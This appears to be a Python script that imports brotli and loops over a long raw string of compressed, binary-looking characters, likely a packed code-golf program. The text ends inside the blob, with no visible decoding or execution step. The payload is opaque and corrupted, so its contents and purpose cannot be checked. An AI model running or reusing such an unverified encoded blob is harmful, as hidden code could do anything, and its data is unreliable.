import brotli
n=a=0;b=1
for c in r'''_=Xh"@gLLIͣFp/Ҫ5I	PzIr(͑ڄGbQ>У9֤U.H'"{9MȚL|!@(+y$k:iEu\2 ɚ{Nq<5!WgDżZЍ.c()8os$գA1ON|K'Bַ,k^Iݮ)Ny/Nˊ\KXJE^[:Q9o
j7'lƧ4)K)gDCHG_	#p2M8׼4[U+Bsηǀb&q@hkauI5m̾JF+!*m.5FC`qGUɣO1Yߍpz[S0?,8ӄ</|-59/ƢuFo_"n\:9#k՗[D-?6ZӮx/ԟYuqɍHTO_4Wsal%{N`Zqֈ~&n|a:ctc~<r `ÝQٶRW7[n{ŝ}
~)"h&ߥ0($bztr/ƙguZH@eѷCͣw9<.\&iVcT#UFmee?/I8)uDCK:Fל޳txYLծm۬cԶժBM|/Ɋ߸vމ;Jնk$Жu(Qm9g`]LF{~)"K؉w<&"NǫJ |c͆Ə>SV+B?8.d!u~rPs`N54},9Y'`GD ]8IWZIe3Uܪ8x!$C"xk|pwPlQPP*0af+^/մy:rNuu"}~JغLJ݈wH>Ò/}6 ً%ڔ­nMVԭǶ$TLUhN
.*#ϋ}|̔8Iy>ö~R#aކInj"kоEaeM}
am(ay`6ɵzaY],_OtZ'jit*[تCz,y
-e\Ja$c|qdr!T?B'.9-9XԒqC.	PeN%sLܶ9'!,T֡69S3j|*Kh$>˹pR
Euwٹb{+Ds5ӁAu6\ZXޓj2G-?Bƫpӣa
мf~IR=Иa$O,Wml,e2_m1[CJͭR^4;oעU˙\Rh{p^ErW7m4O+aC=AZqaWcZ-ٕɘX*L<Pmjkt߿;US!Ǻ6!
=FڞXb
'ݐXK=]#D&u$}(Npyz]ϳu:ѳ|> ]b+/Ĵ +Fiλ	}<:<6>+68nWBzPg%?u=4[XdGqZC{D@&~S%~5xwHӾ2î٦`FR6	2QwyŎ, PۑЇ
ҭU2ɢ3Ӛ",fߐA+yP9	-S{
-wlơ"vt5kH.zw|);XSsFHfvߛ&aI9gTѵ1<,6ݸ4#ܾ@)w|CRb\:a}}ܸ)'Iof~t\Ecaj$'D|Î۪[Nvޢv˅^i$!4*ԝhi]ќ#,y;?VjJ-{oj4YޡbH?tN4%*/cMdFte
\-ci3rHmp20ƃֳU,c:~PЩq>)j}zٹjb)??"IbHKכ)ı\c(%{[ҳI2ثYǂP[0ЃceD2-t\A<l|<(_|,<ĳ˃`н͌ȁfvD_:Nz*Ho#exͫm2äiղLr}j9ۊĻ8`q~ϕ2įu^q'iw7`p*{OA!8j۪~f}#^!X>Tdn&cƘL}HWMA'+ܕzru[`SQգ}s,"b>dZHaD{L'|ͯEp	wjonʵupBz{x]Z-fz5PI۠gK]FmF/#,T˭qYKaO0'(!3`OWuE0XtM:^)$?lJFܲaׁ+!?wSbme0pUVx!fآLZkSG43w<&DUOFMB8.'?Vk?\j\ŞuiJYTėޑRF_߷6Pϫ]y`!Pc8Fcdá_PSڵО<7N3L]z0ڟ7Nجw͝gϟgxgBjăhʫg[3qH<$\׊.T9TS;',&P7/)B|#pb
:.Q57͕l~(N)tu<ض#Џ5gqrFp}:(bdő'ơ7j^0PĶ~HNo(W-"Tx|L<eA2*. B$9.;NO6S(:LVCFDu*&]Ä׻΢(ڠ
tZ#slX:Z{n[xƛ{]1"qalǄ{J}&ȓiCCL|,"us\5_ۥ2~:h)?h=/ARͲMm[ܐܹ:2\U.tQ_ױ&er߻j@}ta?6$@0eA=j߈\GEoYU`+
{}?ʠFM@M&'oE}b"ZrkA\u4lմ17ԎEZ}4ӊ|0S\yCD2Rw@?p%vfv6
7jlo5$es7SJMG0`X=qR"ٔ<CHAJA:Dޣp
-A3OwKL2ƾ۳SkѺ	i؀Ag:>K<+BJx#[%H_qCV"ؘOT,Ƀ_uNsW-ͯLT~v.RҲ>T3v	COݯ_-14Wu#29$efM֠VL@EŵFed0vG9+?.D9z[¯	v#6-	_Aso/f50(~:Y[zx-y:w+̓xç(}@HY	"a6^;	OVBP)I?|f]B%m6._0$R3/:<QJ?LK&Xַ2,r0\-HxŞr$J¯CDPf<(tS4&ؑe*{Sf_6ucB*	8߱#Nً2g[|dja?--p{>cvڈ0˕h%ϐ\~c{m=Vv@əCg(iGHE9muDq-#jCΕYy|IDejƌ!Kz)z^?2ʐ?'ӹAVcѴЇ^)w9JJ^MŖ?oB9<	MQ7Fu" Ys{hHOy? \(?H)rUk5@[|EȂ^Ii& ʾ,Ƌ_¶w5y>2ˡ1&؅;'7]C%Ƒf[kaÛv)׆7w_n$idKp;Y0MZ*H~Cˇ8̴}/><ИP=~j<.SˊbS2wOp{ezhqDH[v94J@/Ț9a`BAV-O)/g7$vM'}U]<eN/ۿ	Xf=,'3n luAp֫:v\=k<T 1%3qVөϳ951T>8	fEVޏcAMzpi"ͪ+u6RJ@2mկ&ǅ>ϝɬnLҮĪ|ŉ%[qe7e/HfZ#=hGhK6@>
ܿz0OnI2.,R~ޞ;7V\f_\6O>ZbحvLppʮEboػ;ˏ?|GW:DYٿ.yS֠b6 *8gܡ~*=a'ن(6_܏Ӯ.Y˭lf T_i+FskhһĘJ'IE9<md(NٍӸ8I2SdT,T,zhDUA۾;F1I/u˙م_8|_wR(8ϐiYt]dяi!%_iy
yRVFqcHtzS\5m.nl}]80.WF~(rώjēOJC=y>%WǔMtu7y* Aۉ<[ժZ~)ª0JC4Jb&cݮbµӽ-kv?̯*3 ar܏M?	OyH.hCJhMI=?8:Xkȸ,?iZ&DU{8	;"mf3[oUѹò-+m gH؏U*VvMcopռ6*!SL>bvMrN0Mȍ{I|Öޒպ&Q8rɄwu(-+a
Aqςz)ϥwBWn[K#_hp]cH'Q<Lgh ׾k;SӸVV)ryVǯnQ{iiH՟G-A[sӋEQdnުbƲ!;bk0`vw3ѓ<vBCKǔ!k@;`,ɐYFTXيPu]>M{CׅOAqtxKMk۴ȁu>Ms,+`J<B١./9Q|o/ͣϓ)9$+ͨƒ#vq,2TM͇;
;Gy-ؗ%ivymtځ{i+1S\;Ľ_tFXƜ=E.i6zlQ!K1LӡLψ ӏ#E I5%}βgLTZ_uEXxX<UˣvnLܐ_Sgc_eUCѿȞC!OF`BխCɯɓ˪J"chk~Okp\ג%,`O/)}ʠ.~W&,u'Àʓ/VUCi[3B"ͷsy,R<h̴iȰ$jp1B/Gs+R˞\CYCߏs,®Kۢ%ӆO
Hu& +Ѩ
_:\2!'a!RZm:+ui7n[O$Bgszϕ!ӶL*>ȇҰ{Ki/}r};]>M.mKϜPXyՋҢǞ<׊6.h++ y,q؍ʾģͼz5y/:ZΪp"s>#|_ASwj01qZ}$Ͳ"NJOgT^ku܊dH$ւ*,X rO6իcv"/b @sݓ9q;_BJٔ/fѭaSLvX/6`Nj)_UN'65G!b&ou"̈֔gLЏD~2Q̂dWewn*;P6]1rAsi3fUN.ȴBT5#C]a:k?4d{ib:װMWͯ	Oҁsזuh`p%rkkӍCe7S˜<ѼKʒ<ѫmFԼOJݿP
#Ѫ+sȽܡMI0C&9*4{!rҸj=T^p Yal3КAKd%AQ	]\r4]r<YӠuzݘ0EsP̃;MI4׾݌GйT2!37d{EGXA9 x1En_-=n[ظXJ}LC^ٮXkuhIvOVؽϰ|uu>gHTD	ő,	ZEW=#zmVw# %YFU?`u4AQ4~`bŕL	{nn1QWBTǶs5|oYx])x	!Г|ٌߗ/ʨq	D;:f9=a|(#߾3yj`]QdƄYJ%ΰ֘-"AA
$	AdY$5k̀ctHϭIT}&6?AOpd.k׆1C=Z\4nuʓllBy>|CZAos9&(E5rH˗ù;P;mWfTJ8Ɣ.6¦"{WNͫPrT_OP1܍|~j}icbԧp]]U;tiI+&@G;)2D{~ps
OŏC$<!:%#%6-B	#AwDLPTGЖ1&m̡ݣϱh 	ؘ9tĨ|pa0I׆H؛,϶#Ԍgp\OK#sQ{_$^@ӵVYEH/lmcvD*ǅSONY\hNLKW HanXa~s}߲>E%/@\?k`òy5PA@f8Vr_I6{˨lt>ś4ќjܯ9m;GZgHqY=՟YY"ϩV9Ux԰k%ׄ~,%ݜ7nWBUqA	`8]>+7A2{mUBzF^J6Lրhy)rwۏZ_8W$Qr0ynko	P|]RǴFZ#ס	Ƴ'$Ǟ\j2nnDktjp`jnQ`oCbJ?D>h?ԩu|hQo٦K2ǢIBYg=%Hֱ0؅f,9{5Bw`ŲfeĠ$:3و"=5ʻBxVnOo['L{@ˤƳL	
$N6:QT	ӥC!FD>J
Muh`HF4ҸVA(%M/He:c>4E~=kZvC-j0#@H'i:π1ƣ۝	^8t;̋4]	^^e.SQÓXFX=ƂlA˙2p{Ba6jB"fΛ)-Gl̂p_NvoQD%Z+C6q?ֶ,|R>CA$4Xwt"2߷;erA۝Jwj.(5ʷV79ph*Hx7߹:׷oz6: )s~>'McWS*xJrP΅w1Yè(U;CIGҡg)L̮iBp&NlkVfmR7bڍ׮Ae\kńv׉sI(\n˶~:֐a]`yF҆^]iW|8܀܆Ծ:Lo7
=!a6l\P6 ]PEZȐG@.ݺʊ8a%1wL0"}xג;
w2R*OO̮Q,@yq	Y5Tz
ZǥZJ$ޞЃ]aؿ/)е9 j!
֓ĲA΍ko>&`vqTa@ &}<g\߅Ƈ(AHƄ'o0\X<3p@Ro3U6c%YDr	βbwҳvJ$ݧ
".K|5xx?4qk	GLuegJZ|	'_/x& lH4I5	~?{M'[3&х0sL\p(5Mq
v]ĸX@Vc,Kɋfu"JeiYno"cbюQD]IyI3X+pC=(m6	m&$9se[
mo,ߦۥK44ks_xDcL}BJSſ؂XPgBC.۴+8Geͥ?ǬdT 'ژ{(jawx
̧|uP!`tȳ7Cbz9`k{`9>^յZtkrٝc!>[&OI~Th̍wJe?`Y1%qQ~LT;Q|MAbCsL6l=ɵ],+EğSXL_\LpK]¾y*+0~E\e>K׵VMySEӀ9,ݡf%!]9R.E\.I)N!x%j8Ok+Bv/HQ7X9׏CGS\sgϞR6/G,(10ߞaS,[}i'Q%/,f&xWt6Z">Ӿ!&o{3n߁`oƓ?P~GA\phH,ܫHGn,&a.	9J}v/޾#Hb&ym	"&H$}/MWhc<VLޜ\hCEiZ$kIKo@گSi
 7v~Z+gUGiS[o$6C5xŪ۬3j1ަgCƷe7j!֊/2u0jMw
Ĩ)Ä8ִҪI(Љwxa[+V <
!dFGμ0Dր[h<?G5Äk5!ގ2ؔC6JεM4rΛM/pD&ͽӴ٬3W8b&pW]xKd3fK){+gL1v,Yp0(ם'|߬AL@?~ٸͳ8emP}zE~_Mn_OY4
"30H	Փߚ`rƋeۆB9vE5>HO<leǝ,a-f,Ӧ?c.rK#:ԡ֞ʏvӟ{yוиGd/$QR@Q? /D(4Θͣڶ'
[ UN&(1N	t(]~p4}a҇Eq-;Gv:1dխ8^9aɔv](®Ab$#Tڟݨ]U+=Ɏŗ	)ҶQ(#ٚbSpT,@O'BO m}AKP_CO/T@ѫƠׁ4	egPo-r\bo\gٱǨ{;֞MSj/%Wk!,oճ7rC>Fq.[(I>RS`!0њ|ϥKZ2;}˵p;/K9[5+\ǦSO%ILϧɘϳYxKiSƑUxa(fQ3(~Pwoչr;	B>[8xLǱ>?tJkw,]V%O_̝ō'_Kʀ@ R5f"XEսygm4AͺZU%V?ã@-^3_>+P&`F( W:C[3яw6s9iM2T^FqэSߪ	W4'*XlƂt4@*T߆vm.Ⱦ<ֹu@ly8	/+E݉nnBӖгRE;qCż.(3<04Iy| 7up@ګɊջ;څUQ
֕KϠEf/!fM{Ux-]&ѱefg1I܆KD	oN;5* E#óXpmu'iwJ~%otv*sJCZLw[oNǧݞ}o\»{} =L@Ie8:cs{<ƗʱǑmԱsc$L_jB(:K\ftuyM$cW^& V2>/ED3\Q( h4E$1:kN7q<ANb	λwL]|=̃[ZSSXā~ł_fTDKWCK(%;iwv6ZALObtrKN$ѥmF7Šu.G{_З:@W7a$6|ҝVTuz
{2D9̱
8-~2@pW"5E˭]Sޣp$NQ.
U,W0ƻJ|]p09#E	]uA:M2rh/Gހmc	(jRGT7K~=͖ޭolbL]h$*emȧnV-=Z#
dϲ[c.f
6LDq9v(c	ؐ֢5)˸]O!]yn5ĉ/s-QGwG.I"x>B*lw+yФDXKq1;<f`v Z>ϻQ?/ך%ȭ.b$,9C[9uEIT'Wj$ƨ̃%}qG(BؓpAc?{{y[+6*#fcUD~'\w(Įg5Жxt"SPlQ@ۦp<kv~~9vq{EQx#n^ȁ+@P0 H-
Q܇:e\@.h  <KUm&_5=REOӧ1]3ΓI^կ9>áhNIB]|CɎEX{
م[ѝya.t,=)ԈHddYvw¤pL:}@JĳEYx?DݝӫU6?),ݘ1	?4g`]$˪9|ԚVM*ʛ&;5yiGHi͐CŽ2~úlkaZYgKMP-^qCvUT̳Ke<G%XobN
w&4Ϙ:(\+/[+v9]U?Dp1UHt0ӧ\,soߙ׶Vx]7dV
suAgb&̛4X.Ԉa~?sIϊ	nHP=#kDv6MtQՍ܂!Rcrx4L\)(Pmau}\HJC%x=V5ؤȯC։uuÌ-wP\{A	@ܔM@{g<yI_D4q
x8$η=jmlUyegP_رҤjKrZu4i`U͘zm;1eOQL),:r9݄jJgZKn'Xfq^H5աcl gycH[[^
q<22kSk&+i5cߪ'܍M~IQ͉Uݞ q%1?o	j4-Ы>ۖ;;\VK@Iר`-mǚO%SNLt֜zD(F24&e?`S%jW4ǅߐvt]w{Af/ɧRp{=8^>̛Γ1BZUCn{vPѢsGojFlimܣcB:}"sK)!Xݭzcz?1W=x3yJp»	ڒ'@{g.G?M̊Iv҄Gw~͛^TMENw%IIbZ_iHQЧɓET)fN;^.ևXÅҘARƿS+.;Uş"F4unMRljܚ(ۑΙ٢ew	XQy~Vo
$B~]1 ֭ǊkYýFNտՁ_)/9!o!i	%N%c5؀9vdd?̘4y\U-I'׈Ǔ<):`E'	qn.)NI/Rd0|
XGc5FuNݨHYwvӺ>OԯA'z#3,O@wHú_/Z4˜DQ"JZouz0-(S*(a~ײЍ"/87ZM(ۓFp:MQ۠>gMcmKb
̑23e*`HN8W)hbӃ'٪[sAbGT`5!
m)`p`fsכ.L,g%itסZN]%5'Qs"AʥH]aSIp<bLeߐHo5g?F|({$@rIO1|ńj۪ƨn0gȱtN09oo(٣(>u$'V^(&`vEŋ	}
Cn7.PjAЮ=DHYDbԌd;GȽ
cmin,lH#ؓP+.HH[v^98W+dEϱhiڊ<D"AiXˌ
P4$|<kzQ4[Ȃav#v	Pe$i`AmbZ{:q
SsQu2ϡiz%-Ap+&U}j_Q0Y.|OAfK7wךr!4-w.Y	NnS!	KJ6	Ceg-|3߽A!qГM=uwΐY!ovـ0ۚ[aJZ~Ӟ)oڛa1$Țۄ`5[>"t,OZ3fM@Am9wLXȼuqkӆqE`(v*knZ@DmC+o0Rpfԫq|?r'>OJ#6Y=Y߫]U "/ŖCYWRt7[{pTڋ? h@&VNiܭz~Dĝǲ-HCVfVZ׺ǑjeNӴ-"|.WٖD]>4A\#\4.v(!JBLÐ8ծ|U`Xg	m U_;3}^\
%9%Nu	dF3,B6fivj4z6]_)|5"RJM3mOvGS_Ya](pdJ Obok7ڜM٪|3k^CQ<%Nږ#?Uvm5D ,)փ5\y8QPP*%P!(e7ϗ3n9ʥ_՜eFʧcg/Uhft_7E(pʃT֖"c֢tg1\ͯPʾz!5֎o-b{Qμ)$a/bAyPG&P*dɬ1f3[+?*
?5g.qy|{O2hw+ h\:<} ڝlY_uw3+COKNgEMgGi^6U9Dq#ē)߭ Mk`~KvKM%FeǉY#ݒ{{4ȸHI<ؓ0g$+&qzF)}"4[q^J+/_~i[ƫ5ԢUb]ã{ObK&˩ѳlxrYg`d6*bBޯX<?g~k9/ɾʩuCC,lzDWHGEۺCBhܠޮL}p5Ip.Z<ڦ6IadmO׬oEvGk%we#\CӜǴ*0pfudܷDԸ1'	ZG
(2Bwc7GVugb/r7Z̈o]%18Wt·s,^Fnm	{v6݌݈z~"׻4FL~!OiV#/ԈxGr)*&ιCFsrZs
c?]fqͧƏ\Bi B(*4Dwqb&Uc<= :Ф͵'̢ǕE8$d]ɑ:4Ǿй|œ=4|Ә6+1^[#O݆ڪ2ˡCؖaԑGK8"R#mM1Y,ƞ_y7&:BPIL	6O	­i="<p5|mh>c8zim$= ߠWؑXɎyo;ڦùíQW"v]<tkfqFD:wX/tՄm0`zr£]D]iyPf3(J	mz\Z+`	*Ӝ:7pJCZM	LVs
͛bkˁQi4J6PPUZ0ߘL3^7B!nbصaZ+xȷ)*O@oʉhc96ϵ{ƪlL1}ܖ[H]ۗ
>aiSz:uM'=^vȠUBqۼ!i5~'C1ps݇d<d:s~{OkR_9j
٢++ڪ`6LG@?~&$p8L$68"G*F-U&˙yO	<,g <A?ECd
3|iV"W,<okx"3OԶtC, aJf(׍z}Q"c Fo1g̿W<^>J}:q[Yyq-*<Ŗ/zOLbyKɎxo56Sc^<uo|Y*eDܦB~Ll~AQbP` .f%tǿ}ۃ|YwretϥQQƈ7xÓ9;&ݻZ,>ْa{<A+	S|$o&GdHEb/ˠf7HءݒjVc%LD$i$x͉i3Pmޗ`O#_UoGa	$`6xTcB41I+}1($|ĬjܕP/b?o@	xE8rrHldNOxa?v95/(7V+;Ze?e\ax]G<8c+'sąI:DǚʫԘWI"<$*$p~O>ɕEomIyEe5('èv*h#Hd=|MDSh+z5",lĚs^+tvh)s p'Α<1!JV<Gܕt^6%NӔA"]ԆƥM-2gUQ؁9rb)Q[>w0R<Oȵ|jVϛvD2!lՂԪzҹ8{3/6DOtjTTbDA[g5'sAӋںy_zĥWa=SwF7bQ8>9Aˠ٥]:D.jʮPUϟB`V ˥VI"<ҸɔQdX<pI2@֟/}GD>A6z0q#JW2+6`1`d)}Q̤O}^T222OmT$86g;ԭIɴhP϶XMǣ}wu;.d~(ERb2F4jL%bآ+01c<7liƟ$rϻ$Dɡ%אp׀n5LFR̻![޿2߿#X}ټxjWbzL)2Δjgd(6[Ɋ˴Zkza!ESYz,K>ro)
wAÇ'Y	'!GTwғP0V2ztj{>> 6LNJY4ԙynjjT=fj"ȃR2yM7XټH@B9zpP=12bվǡ3І0YvJ5}Ӟ1A/ˁF_e°Hng]j" d:̳Ya%ʆ!S|F_b݂tjOh}Sv	Oڗ\
s)I^4ʗ6ΔШyߓ(Юh-K]6-'M;P3Ӵ)f }H{EVqɂJXؽ7v $l\Tkk	;2| ؏Nxȱ_f!їew0lpwK?F˷ȦVqg߿iATʻ:<:IjTȧ<ahp;MpK23.3V_utn,ӝF!_4)Xݑ#s˰]";])2.q¢eDa%qoyg\/yǰmoo6`-hPuAL)8]HƾguG#~Un|:a fEzqp}fpqϯkci˛(GAPe )ҋYtFiY_bUK9o	Jϧ\D:I41Ԛb=Rlcu2{W=*R?qWh. /|[+nޖ7h&6wՈlJɯ<(5r	4iA7Q{F)vף"TC[ғ?6t^޸&ZRĒdaV1ݬ޳zk|ixIk؉HE{kyxG~/@e%K7B
~V٢Tm"ĕٺZo}6}ڧC*?ƥ<F[6])	sb;8/O0^̯p;]p-4jB˖5PЉK|p:.*t֡
Tֺ(wTbFPVT:jĸU
?}qO4Ɛ<FbWҒz0L3VOZZ 
<9,Ͱz7ŵ Ghf
$=w3K3i\"qCؗɜAa"!{A,Vs-zOzZL6WeЀm6!û۪ל[*cDyYXPw4n.tś?۞V.&"*\PPĬBjצnk@UOb3p	AzBzE
:sc|vJvbg6ԲպV<.duIѳ9D*;qP,3+'%a#a}k+wxո6= <	x,i_W7#E;uj۾ZMIۛΊgNΓ-s5[C5TcPTxv@6tVEC9~:Տb{okC}ۊ/8$}Bn}ͤwaXk~[/xWPj$+Jt[WWA99HN:mJ UohyF#rsǀUٓdG@7sh>'~;xb!VA|Sڽ^B#ې
J;oEػC,{ogK0CѲhZ?`3</#6y`sBwY9ͪr>~bͱTN`ܴ@ʰJ{us{BwZÏl?7'
WA0jތCQAD;O.o	vP?r^͉M`|ҖD6-p1(&*lS!sYB$A
X@rFs^֛w)MG!B&kՇWT@G0̲[sϓόɭD)0J4V>'=-aU,'?f_btld!l4ޥF Md
{DJӔ;!Soٺ26/xsH
]	>[6}><ǿt)0>2hZj,pgP7
a>>>Bl֐\qLAܘ2J"eלMOgXF0rҬ@T&g]ug2)}څaXfX4#kxV?E%vub:зz<kQy,߆%Ed-̀qƘs#7=(lWn-ut!%
a2	
"τ4p|CF!آ{
6~?1yx՟^1iaaRIѳHzI/ݜYz	!&4tZ)A½u+K&4KHgݺ:x^*7r7ZʃK%-d("xK[@CnQK]~,OLEr|Xgs;X?#J*přK~>e٩GqCB`$I]]yyܢme[
R&%Fe){""	+\׌4xQm\tQ`cPM@ea7ޓӜIG}3dÄ5X9F3MYI|GlW)zژϗPit3qsX̖h}L[]
{֑cƇHf($`_je6 xxasܟߠh9WaN~>/+W֭wJb[zJyòQt%ȥ+\n<=^BĆ7csW&vZdں
'4QCɣ܎A3ߴ[2'Ĩ;_Ś63&ͧw#$3[rZtrC~z<#4cYkĒ12yk>;]?ɗasك*+dGM8{3C+6f}s&8c0	Ottzq}̜(z6şdP<zY
F2B_Dg%SFoTͧ<~+?v@͐S%1<(Rp#T0I<m8%zAEKp+GI&e!L
tJ6I3bIeB=kCƙnFڳ7Y=L %ʢs2<zqGӍMqnb;%JGuHәiTh4a(ʤDS?S3)-2FunV[+jEra-n'x,"mi1^7>xa	vʭ$Tן.O`EB'@_\5K#Ҿ'̪(}<Ř"
X1AWonsN]$X7ћӧ.$1ec\ga$Xo`|ȀҬP,-$'Lq$[wk]מ:D^s{rժhFV+D=$:פjbДgV8Y(X[LdYÖBE`v\Ca-.[=. >#aG}ƠSVOZϬ؝+UY97-%>&EӊҎmu7CǓ2"q2	+LTʼ7nH7Ҳ{ ~Ngٻ|Ѭ{ͽÈөDƗvbfBSQа>v[?nlCtb`änY|̆d8]ЄƔPNUGZK\" 9o)UiYYMg`1HdYs'I+0z ט]܆(\WQ"!N8pГp͆1ĆNAr#7	@!C$G2Km5y
rBcFBKt¨æy1Gyg3}8LƦxp|֥,ʾp\<[y8`.rٴO]TXUފǿk<ԍńI)ºDkۢ4FIA;%Fd
PgtĦhV1_B77M}fagdˏ8mε8/Ɏ٤	H\ͷi+,%ww) FClMSfĪ5@1Þ_5\d23[{~N<p;a%z׼F955#J8q/
ӧ^ɇMy!Z+GI!]3E'5?V9u)L)ƻ.R~ߴkjQQ|q=ŵǪXҴ]iyl8}irUݘ܏9Dv2΀zƿ-*@mӵ#zb>:KHA#Jf w˷͂'PIͺTH+XȡFƺnJAn!٘/ͣj#Jcg`Kee=u7n)'GΑGAW܄xi7!:$OdD o]Kn74R&;hT\ʸ3x]#e^FdT/+JVm,aKƄCAGİQ|TjىtZI+,pΖe
+"~0jG`=]r-6%{זūځQ53y:/U!tog0"o?.;ҝlWuEb̖5G`T%3v]e0SB^ 	>:Pʻ4nndlz"l'jޅ+̢I.φdv
VmcϜĖ,Ќpc~W5%ֺFM1յ߻G&2JH{-ʜ*q`@əǶe\PVs
>MZTȽ:]q`$YstJ\Xh59J	kT)ubL@(`KNVf^mai@Įʳοi$l-=+/GEq$8ϠUN{ҧ	1*{O̿@
Qۖ<*{/RßЄ	6/5crX9̑٩/5]\qJy.^)Jt'2v{@x_L$nU6+Pe$ҜLwD8bFEl}4Ǵv;<yWzee9I"YDD='˭	DՅ%>iEB
WmU9܎ށ25fI3P5eG? 5{mu^+%N}ӯENԕa$JYRSƠܪRƫ")ȓGxAE=Sn1Fm/qȓ05̟lu$nlĶR73O0hd1Y)ޫOCItRf
yxc6]޼uk=(?/ɉm߆q$J1PXZN[ǹ!Ě5cHKзRZ[}U	%h"ڼt.Gp7&toKBYscv}[}d9FAT,7fWS`FH}͛{JYpCղPTw},;d>CV.I<fɀ%$)GT'ou}~XGomӱl()d(0+'$Hc=Bu^#zL/eƀTb7AݏM.OؙU#q}Úӊ;Vh8OdjMt-:vހCʸBNR$<d\Ӆg#<4S%I}pcu0Θ߿t[n1df?k]ɘUJshEP=fm &}Uۦъ[.ZlsΠ@'ŧN0ғ'ASν΢r`{l-SK'E+O;6=>YmR8qSc5tqt8k8)'Îƶ\90ЙI6|TW28A->!x=h,D1-X=w1$!&+DePȣaBc!ھsTWO-.6gmwoBR|riôG ߋII{#`}MH2|khRY^tՅΤЧ) RR;p^,Xi3'v"Ի_]g1hs\6ґ{Z{hV@hu+G9fp=ޠuŅ&d&JsvugRvei3d3/1%Mse4ʂ8|fRËG+6-FZe>aSPqmɷNpr\yf
5-*)>!EE]||&z/ݩDHYA0}<}ގS\xQW	+SFұx<7uŵ|vο*?M֎(]0bG?ܷHdAx4N"g>_Ēl!:&q`~ף<JJ&Wx3ױ*rQo3̕tMT@d- KvUXWMO{GV#]žǱfLSR`0ل4ۗ+^N5e
Kq5أiC9ҰCכEEuqc^z`6dkt(SFHg(oza87/!QmlT?~|0fWߌyR	Q^&9"<mO1:rOc{S*ɋo](˛*f*Dpb1s_N"bv|r՝͵BŜ@"0`t/hxdʒ.ٽmatr!eb.G?LRm/MnVa:rʱjAȼӋuneE3C	tй(D1K}<'&ޢ`G>և!Ik5XsqUT=i[
xUyݟmXTCȣh(T$y(:m+'Unj,JvJU{k1_ئ
|uyHÉ{=jbe6o26?@&LoT|1ɹ!˻J*Bϋ֒zc}I{9exDS7Ry}L"G#>ү*]ׯ6"ŏxYtZA!t`Ԑ?<aP.+Qקp'ܶ7~H-æ7^d'GH(5X'VTkVY^g~Oh||*Nd`:1\3 $9:I(jhKsڄsY	-xء
b!ls?{L	)c%#rƮnab`TڧI+|ML.{l?FU؃sTПg;xn6Nee.TBK.ƀH
#nQBaOK)_T*#bX5j*mƗ!"7ٜJ6]no͝^OA{nJ+a1k'Y5;Ǹg۱-Adʉ5u߰@E7P*ҨZJHzx&X69&ZBzt35+cZi-.#-V $ۜ98Eֱ4ƺ<k/ޫî̬˙N'$ްՏW"p9)Njjmxy;t]:8<^J"6"zb5"ъi3pՆ.`Kvb(6dҸL|1o'T,=fm`/sŖdԧp wщ[ީùnCJc]j@nRߠҀͳhm8bzZtGWгP!AЩw݉ե(nζtAP)iJ\uV7
|ǟ4
ܞ2H˳[M)˺7!O2p<E?"%ADm%^GٗӼ^$yn؁XY9-:kAOR/JpɉƠHߖ_loI{ϴ8~DtH̭}@P`ULʿm8e]yڝk}_OT٭#^,D]ʉ%N@S~9h*54*ԁ+ QT3,7܄
B |"h]7sv2r=WڗA16C4̳;O/5~SLD"obC0:T{`/S*y̎h[Mӏy1tΖK:(,?Xȕ~ú&CfzM1wd:ŵ_˖Bʹ:}O985D?Vg#
o	,ZsёjrM،6Ҋ;e|xr.3ӥ'C2
í3F׳'Y[]= /ekī(5ǩ>J7b1oxkL5$vL <%*jZm˸},H5\{JBh{FBmК?e+ٯΩgTJ-a;gݚmbb3`K޿Afd]5ċ!ZO5ak	;e=PxTKѦ^Tzz=vK{V@4p[؈Ʀ zJ¶-͐r`VȋDr278gH[~`imYgϟ	_=C׈Y/q~(Z@'IPz^p8ӣִ%//yt)tRР*O*~5XѺϱ8F0q+_x`)*ݸ?}oDOmH~gՔBǕ%$+%=zʸ%:PSb/3U>ԁoީhI__a^U"6 }s\ҏ48ڪ#ԏ\MJƔչ[@-h6yI_ߛf8n+]\l=yG؍ݶ-]Jcߑւ_FZ۫O=O~p8olNQCHF,5Ζ5?:}|V]]ґ/Y[$"!|ѥ;NwW~Ɠ<=/Eۿ̈́u'Ck&!g,*Z-8XJC!C5;ymVZTMY}TATŖI±fA!6є APNnT1g4ƻ4^/Q=@0%=u!tiht9Yw ARęSJV̕`R	Cc*bijp1}ܔGT1{i
Q'?%|ja	@ގ'Ӧ؀CMTz.+϶!$zϔ2Z֧mH3n?Jme8)-`zT]G4tg
bVE&f
`@Yr9FG]]l4!1{Z~tUܓ23|hlӅ܀I܂\KYl/2fQvvrY>6IDB֟('):iGWCeOvZM}l֖{U).1խ8=MtyAuk4#ٱǧqĨ3KxԜ5zJkzxO)(OٹQ	[6;1Ac6"kWW
?Դ0A--VοOnVmg]qzaتbx8 >ޖ\,k]^$cch.L8A?>u6P	oJP#Zwo(8z2+3Wڎ%˚PÍ,#_Kw&Ƌ?&Y
h6ՈƆ~"ü\1}_ќ"'͇q8ԧi8Ȟp ԯf*%I˘Ľi$rW/DFt`9B'>JolsAݿMU}8'	]7S]#+SiUSb\{k8+5NEϊ[rH6ĞP^S}*vkxƋ:tEI
|f׸Q~cyn3ʡ~8;
)qLo{w&G<&l&/\G%7&z<;O#azEI5^=OeGr۫)aR(̏ Q0ҿeL,XsȃUl̡{3}Őځ8>6bL7WW̮`ʻFϳ	%EiG8iJP("[ǻvGI aPykH̀Bech29:PH-j4$}y1̻BXSv*	&vwkM_؉}D2dH19
s>9-l}=B-b<ȿa]пK̤UJqGp/?phḡIʶ>,lVM՝ԏ ̵yv"|ZȦ8Z?Ռ߆#kATN
ez~ŀ)CzN&Rn7R`<Tѷ'k?O3\4chvƁ^իrBV%0ðH"ȥK}3qag-BĠWƺ}au ؀VJI;~88&h;#UӼv[ϐ<c6]\{1seX{Tɯ^>3quيQB):O5(wա[_@IV8b2'/gMJz'X"} Uų%qzKTGM|ɇPy[":U?;l{ق՗f]aR1F=oڋHa*94t
YPیyҾRj=cz.;ic(ǪɒbuD'	Y
5~^Gq^AϱEiY>W1WMdyBޫsj
o%oz-,CӋ\U؁='=ȉ~-O~Q%'Po-KMׯ$dhyuqo''ɺ~`<$ؒYuX@˳gޱr{='5i{>f,+T(<~Yx֎;adfiVS0Ru:k(u.݀N_fJ*Ĉ޳Wðg9sѺ7gJ$rV|zʬ֒Ŵqևd7+s^]Ij(0sPrmװ|IG\v*e	p	i` ^Df9TԀ߾+jeO$Gt}ř]@8X8A}nLQطfEĮ(U"xFrm<~=ƙ/#ZoYzα;;!KW.ina
